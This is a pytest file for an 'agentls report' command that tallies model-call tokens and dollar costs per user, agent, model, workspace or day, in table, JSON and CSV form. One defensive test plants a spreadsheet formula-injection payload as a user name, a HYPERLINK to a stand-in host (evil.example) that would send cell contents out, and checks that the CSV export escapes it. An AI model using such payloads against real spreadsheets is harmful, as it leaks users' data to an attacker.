"""`agentls report`: spend in tokens and dollars from the audit trail's model calls, per user,
agent, model, workspace or day, as a table with bars, JSON or CSV; `--since` bounds it."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from tests.rig.eventually import aeventually
from tests.rig.scripted_openai import ScriptedOpenAI, Text

from agentls.cli import main
from agentls.core.audit import AuditStore
from agentls.core.engine import EngineSettings, build_runtime
from agentls.core.events import EventKind, RunEvent, RunStatus
from agentls.core.target import Target

# gpt-4o-mini as OpenAI publishes it (openai.com/api/pricing, read 2026-12-01; unchanged since
# 2024-07-18), dollars per million tokens: input 0.15, cached input 0.075, output 0.60. A call of
# 100 prompt tokens (40 cached) and 20 output: (60 * 0.15 + 40 * 0.075 + 20 * 0.60) / 10^6.
CALL_COST = (60 * 0.15 + 40 * 0.075 + 20 * 0.60) / 1_000_000


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[ScriptedOpenAI]:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("COLUMNS", "200")
    with ScriptedOpenAI(models=("gpt-4o-mini", "my-llama")) as s:
        s.responder = lambda body: Text(
            "fine", prompt_tokens=100, cached_tokens=40, completion_tokens=20
        )
        yield s


def run_agent(server: ScriptedOpenAI, workspace: Path, agent: str, model: str) -> None:
    argv = [
        "--workspace", str(workspace), "run", agent, "--file", str(workspace / "a.py"),
        "--base-url", server.url, "--model", model,
    ]  # fmt: skip
    assert main(argv) == 0


@pytest.fixture
def trail(server: ScriptedOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """alice: two priced calls (explain, review); bob: one priced, one on a model with no price;
    and a call of carol's from 40 days ago."""
    workspace = tmp_path / "shop"
    workspace.mkdir()
    (workspace / "a.py").write_text("x = 1\n", encoding="utf-8")
    monkeypatch.setenv("AGENTLS_USER", "alice")
    run_agent(server, workspace, "explain", "gpt-4o-mini")
    run_agent(server, workspace, "review", "gpt-4o-mini")
    monkeypatch.setenv("AGENTLS_USER", "bob")
    run_agent(server, workspace, "explain", "gpt-4o-mini")
    run_agent(server, workspace, "explain", "my-llama")
    old = RunEvent(
        time=time.time() - 40 * 86400,
        run_id="old-run",
        agent="explain",
        goal="g",
        kind=EventKind.MODEL_CALL,
        data={
            "model": "gpt-4o-mini",
            "call_usage": {"input_tokens": 5000, "output_tokens": 5000},
            "cost_usd": 1.0,
        },
        user="carol",
    )
    with AuditStore.for_workspace(workspace) as audit:
        audit.append(old)
    return workspace


def report(workspace: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert main(["--workspace", str(workspace), "report", *args]) == 0
    return capsys.readouterr().out


def rows_of(workspace: Path, capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    data = json.loads(report(workspace, capsys, *args, "--json"))
    return {row["key"]: row for row in data["rows"]} | {"*": data["total"]}


def test_spend_per_user_in_tokens_and_dollars(
    trail: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = rows_of(trail, capsys, "--by", "user")

    assert set(rows) == {"alice", "bob", "*"}  # carol's call is older than 30 days
    alice, bob = rows["alice"], rows["bob"]
    assert (alice["runs"], alice["calls"], alice["total_tokens"]) == (2, 2, 240)
    assert alice["cached_input_tokens"] == 80
    assert alice["cost_usd"] == pytest.approx(2 * CALL_COST, rel=1e-9)
    assert alice["unpriced_calls"] == 0
    assert bob["cost_usd"] == pytest.approx(CALL_COST, rel=1e-9)  # my-llama has no price
    assert (bob["calls"], bob["unpriced_calls"], bob["total_tokens"]) == (2, 1, 240)
    assert rows["*"]["cost_usd"] == pytest.approx(3 * CALL_COST, rel=1e-9)
    assert rows["*"]["runs"] == 4


def test_spend_per_model_agent_and_workspace(
    trail: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    models = rows_of(trail, capsys, "--by", "model")
    agents = rows_of(trail, capsys, "--by", "agent")
    workspaces = rows_of(trail, capsys, "--by", "workspace")

    assert (models["gpt-4o-mini"]["calls"], models["my-llama"]["unpriced_calls"]) == (3, 1)
    assert models["my-llama"]["cost_usd"] == 0
    assert (agents["explain"]["calls"], agents["review"]["calls"]) == (3, 1)
    assert set(workspaces) == {"shop", "*"}


def test_spend_per_day_and_since(trail: Path, capsys: pytest.CaptureFixture[str]) -> None:
    days = rows_of(trail, capsys, "--by", "day", "--since", "60d")

    today = datetime.now(UTC).strftime("%Y-%m-%d")
    earlier = datetime.fromtimestamp(time.time() - 40 * 86400, UTC).strftime("%Y-%m-%d")
    assert list(days) == [earlier, today, "*"]  # in order of days, UTC
    assert days[earlier]["cost_usd"] == 1.0
    assert days["*"]["cost_usd"] == pytest.approx(1.0 + 3 * CALL_COST, rel=1e-9)


def test_the_table_shows_bars_and_says_which_calls_had_no_price(
    trail: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = report(trail, capsys, "--by", "user")

    lines = out.splitlines()
    alice = next(line for line in lines if "alice" in line)
    bob = next(line for line in lines if "bob" in line)
    assert "$0.000048" in alice and "$0.000024" in bob
    # alice spent two thirds of the dollars (16 of the 24 cells), bob a third (8).
    assert alice.count("█") == 16 and bob.count("█") == 8
    assert "1 call had no price" in out and "prices" in out


@pytest.mark.parametrize("columns", [80, 50])
def test_on_a_narrow_terminal_the_names_and_dollars_stay_whole(
    trail: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, columns: int
) -> None:
    """A CI log is 80 columns wide: the bars shrink and the least needed figures go, but every
    user's name and dollars stay readable and no line is wider than the terminal."""
    monkeypatch.setenv("COLUMNS", str(columns))
    out = report(trail, capsys, "--by", "user")

    lines = out.splitlines()
    assert all(len(line) <= columns for line in lines)
    alice = next(line for line in lines if "alice" in line)
    bob = next(line for line in lines if "bob" in line)
    assert "$0.000048" in alice and "$0.000024" in bob
    # Bars in eighths of a character: alice's is twice bob's, to the nearest eighth of each.
    assert abs(eighths(alice) - 2 * eighths(bob)) <= 2 and eighths(bob) > 0
    assert "…" not in out


def eighths(line: str) -> int:
    return sum(8 if ch == "█" else " ▏▎▍▌▋▊▉".find(ch) for ch in line if ch in "█▏▎▍▌▋▊▉")


def test_csv_has_a_header_and_a_row_per_group(
    trail: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = list(csv.DictReader(io.StringIO(report(trail, capsys, "--by", "agent", "--csv"))))

    assert [r["agent"] for r in rows] == ["explain", "review"]
    assert float(rows[1]["cost_usd"]) == pytest.approx(CALL_COST, rel=1e-9)
    assert rows[0]["unpriced_calls"] == "1"


def test_a_user_name_cannot_become_a_spreadsheet_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """AGENTLS_USER is anyone's to set; a CSV opened in a spreadsheet must not run it."""
    event = RunEvent(
        run_id="r",
        agent="explain",
        goal="g",
        kind=EventKind.MODEL_CALL,
        data={"call_usage": {"input_tokens": 1, "output_tokens": 1}, "cost_usd": 0.5},
        user='=HYPERLINK("http://evil.example/?"&A1,"x")',
    )
    with AuditStore.for_workspace(tmp_path) as audit:
        audit.append(event)

    out = report(tmp_path, capsys, "--csv")

    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["user"].startswith("'=HYPERLINK(")


def test_an_empty_trail_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert "no model calls since" in report(tmp_path, capsys)
    assert json.loads(report(tmp_path, capsys, "--json"))["rows"] == []


def test_bad_arguments_name_the_option(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--workspace", str(tmp_path), "report", "--since", "soon"]) == 2
    assert "--since 'soon'" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["--workspace", str(tmp_path), "report", "--by", "team"])
    assert "--by" in capsys.readouterr().err


async def test_a_call_cut_short_by_a_cancel_counts_in_the_report_as_in_the_budget(
    server: ScriptedOpenAI,
    tmp_path: Path,
    backend: str | None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # One whole call, then a run cancelled while its answer streams: the provider billed what
    # it streamed, the budget and the run's cost count it, and so must the report.
    (tmp_path / "a.py").write_text("x = 1\n", encoding="utf-8")
    settings = EngineSettings(model="gpt-4o-mini", base_url=server.url, api_key="sk-t")
    runtime = build_runtime(tmp_path, settings)
    try:
        whole = await runtime.delegate("explain", "explain", Target(path=tmp_path / "a.py"))
        assert whole.status is RunStatus.FINISHED
        server.responder = lambda body: Text("word " * 2000, chunk_delay=0.05)
        deltas: list[RunEvent] = []
        runtime.subscribe(lambda e: deltas.append(e) if e.kind is EventKind.OUTPUT_DELTA else None)
        task = asyncio.create_task(
            runtime.delegate("explain", "slowly", Target(path=tmp_path / "a.py"))
        )
        await aeventually(lambda: deltas, "the answer to stream")
        runtime.cancel(deltas[0].run_id)
        cut = await task
        assert cut.status is RunStatus.CANCELLED and cut.usage.total > 0
        spent = (await runtime.budgeter.asnapshot()).used
    finally:
        await runtime.aclose()
    assert spent == whole.usage.total + cut.usage.total

    total = rows_of(tmp_path, capsys, "--by", "model")["*"]
    assert (total["runs"], total["calls"]) == (2, 2)
    assert total["total_tokens"] == spent  # was the whole call's only
    assert total["cost_usd"] == pytest.approx((whole.cost_usd or 0) + (cut.cost_usd or 0), rel=1e-9)
    assert (cut.cost_usd or 0) > 0
